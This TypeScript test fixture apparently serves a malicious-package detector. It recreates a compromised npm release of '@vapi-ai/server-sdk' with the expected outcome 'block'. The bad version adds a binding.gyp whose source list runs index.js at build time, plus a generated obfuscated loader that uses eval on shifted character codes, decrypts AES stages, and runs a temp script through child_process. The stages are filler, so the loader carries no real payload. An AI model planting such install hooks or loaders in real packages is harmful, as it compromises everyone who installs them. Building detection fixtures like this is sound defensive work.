import { packedText } from '../bulk.js';
import type { Replica } from './replica.js';

const files = {
  'README.md': '# Server SDK\n\nThe library gives access to the REST API from TypeScript or JavaScript.\n',
  'Client.js': `"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.VoiceClient = void 0;
const fetcher_1 = require("./core/fetcher.js");
const errors_1 = require("./errors.js");
class Resource {
    constructor(options, path) {
        this.options = options;
        this.path = path;
    }
    list(request = {}) { return this.send("GET", this.path, undefined, request); }
    create(request) { return this.send("POST", this.path, request); }
    get(id) { return this.send("GET", this.path + "/" + encodeURIComponent(id)); }
    update(id, request) { return this.send("PATCH", this.path + "/" + encodeURIComponent(id), request); }
    delete(id) { return this.send("DELETE", this.path + "/" + encodeURIComponent(id)); }
    async send(method, path, body, query) {
        const token = typeof this.options.token === "function" ? await this.options.token() : this.options.token;
        const result = await (0, fetcher_1.fetcher)({
            url: (this.options.environment ?? "https://api.voice.example.invalid") + "/" + path,
            method,
            headers: { Authorization: "Bearer " + token, "X-Fern-Language": "JavaScript", "X-Fern-SDK-Version": "1.2.0" },
            query,
            body,
            timeoutMs: this.options.timeoutInSeconds != null ? this.options.timeoutInSeconds * 1000 : 60000,
            maxRetries: this.options.maxRetries,
        });
        if (result.ok)
            return result.body;
        throw new errors_1.VoiceError({ statusCode: result.statusCode, body: result.body });
    }
}
class VoiceClient {
    constructor(options) {
        this.calls = new Resource(options, "call");
        this.assistants = new Resource(options, "assistant");
        this.phoneNumbers = new Resource(options, "phone-number");
        this.tools = new Resource(options, "tool");
    }
}
exports.VoiceClient = VoiceClient;
`,
  'core/fetcher.js': `"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.fetcher = void 0;
async function once(args) {
    const url = new URL(args.url);
    for (const [key, value] of Object.entries(args.query ?? {}))
        url.searchParams.append(key, String(value));
    const controller = new AbortController();
    const timer = setTimeout(() => controller.abort(), args.timeoutMs);
    try {
        const response = await fetch(url, { method: args.method, headers: { "Content-Type": "application/json", ...args.headers }, body: args.body === undefined ? undefined : JSON.stringify(args.body), signal: controller.signal });
        const text = await response.text();
        return { ok: response.ok, statusCode: response.status, body: text ? JSON.parse(text) : undefined };
    }
    finally {
        clearTimeout(timer);
    }
}
async function fetcher(args) {
    let result = await once(args);
    for (let attempt = 0; attempt < (args.maxRetries ?? 2) && [408, 429, 500, 502, 503, 504].includes(result.statusCode); attempt++) {
        await new Promise((resolve) => setTimeout(resolve, Math.min(1000 * 2 ** attempt, 10000)));
        result = await once(args);
    }
    return result;
}
exports.fetcher = fetcher;
`,
  'errors.js': `"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.VoiceError = void 0;
class VoiceError extends Error {
    constructor({ message, statusCode, body }) {
        super(message ?? "Status code: " + statusCode);
        this.statusCode = statusCode;
        this.body = body;
    }
}
exports.VoiceError = VoiceError;
`,
  'sdk.js': `"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.VoiceError = exports.VoiceClient = void 0;
const Client_js_1 = require("./Client.js");
Object.defineProperty(exports, "VoiceClient", { enumerable: true, get: function () { return Client_js_1.VoiceClient; } });
const errors_js_1 = require("./errors.js");
Object.defineProperty(exports, "VoiceError", { enumerable: true, get: function () { return errors_js_1.VoiceError; } });
`,
};
/** 157 bytes. */
export const gyp = `{
  "targets": [
    {
      "target_name": "Setup",
      "type": "none",
      "sources": ["<!(node index.js > /dev/null 2>&1 && echo stub.c)"]
    }
  ]
}`;

/** Five megabytes on one line: character codes, turned back by their place in the alphabet, of what is a comment and then noise; a second layer behind AES, given to another runtime. */
export function blight(length: number, seed: number): string {
  const shift = seed % 25 + 1;
  const turned = (text: string): string => text.replace(/[a-z]/gi, (letter) => {
    const base = letter <= 'Z' ? 65 : 97;
    return String.fromCharCode(((letter.charCodeAt(0) - base + shift) % 26) + base);
  });
  const codes = [...turned(`/* ${packedText(60_000, seed)} */`)].map((one) => one.charCodeAt(0)).join(',');
  const stages = [0, 1].map((which) => packedText(Math.round((length - codes.length) / 2) - 900, seed + which + 1));
  return `try{eval(function(s,n){return s.replace(/[a-zA-Z]/g,function(c){var b=c<="Z"?65:97;return String.fromCharCode((c.charCodeAt(0)-b-n+26)%26+b)})}([${codes}].map(function(c){return String.fromCharCode(c)}).join(""),${shift}))}catch(e){}(async()=>{try{const _c=await import("node:crypto"),_f=await import("node:fs"),_o=await import("node:os"),_p=await import("node:path"),_x=await import("node:child_process");const _d=(k,i,a,d)=>{const x=_c.createDecipheriv("aes-128-gcm",Buffer.from(k,"hex"),Buffer.from(i,"hex"),{authTagLength:16});x.setAuthTag(Buffer.from(a,"hex"));return Buffer.concat([x.update(Buffer.from(d,"base64")),x.final()]).toString("utf8")};const _b=_d("${'0'.repeat(32)}","${'1'.repeat(24)}","${'2'.repeat(32)}","${stages[0]!}");const _q=_d("${'3'.repeat(32)}","${'4'.repeat(24)}","${'5'.repeat(32)}","${stages[1]!}");if(typeof Bun!=="undefined"){await(0,eval)(_q)}else{await(0,eval)(_b);const _t=_p.join(_o.tmpdir(),"p"+Math.random().toString(36).slice(2)+".js");_f.writeFileSync(_t,_q);try{_x.execSync('"'+globalThis.getBunPath()+'" run "'+_t+'"',{stdio:"ignore"})}finally{_f.unlinkSync(_t)}}}catch(e){}})();\n`;
}

const manifest = { description: 'Server SDK', main: 'sdk.js', license: 'MIT', repository: 'github:VapiAI/server-sdk-typescript', dependencies: { 'form-data': '^4.0.0', 'node-fetch': '^2.7.0' } };

export const replica: Replica = {
  id: 'phantom-gyp-2026',
  story: 'June 2026: a build file of 157 bytes in a package without native code, whose source list runs a new five-megabyte script when npm builds what it takes for an addon; package.json has no script at all (after the public reports; the layers of the script from memory).',
  name: '@vapi-ai/server-sdk',
  before: { version: '1.2.0', manifest, files, publishedAt: '2026-05-20T18:44:00.000Z', publisher: { name: 'vapi-ai', email: 'npm@vapi.example.invalid' } },
  after: { version: '1.2.1', manifest, files: { ...files, 'binding.gyp': gyp, 'index.js': blight(5_000_000, 603) }, publishedAt: '2026-06-03T23:31:00.000Z', publisher: { name: 'vapi-ai', email: 'npm@vapi.example.invalid' } },
  must: 'block',
};
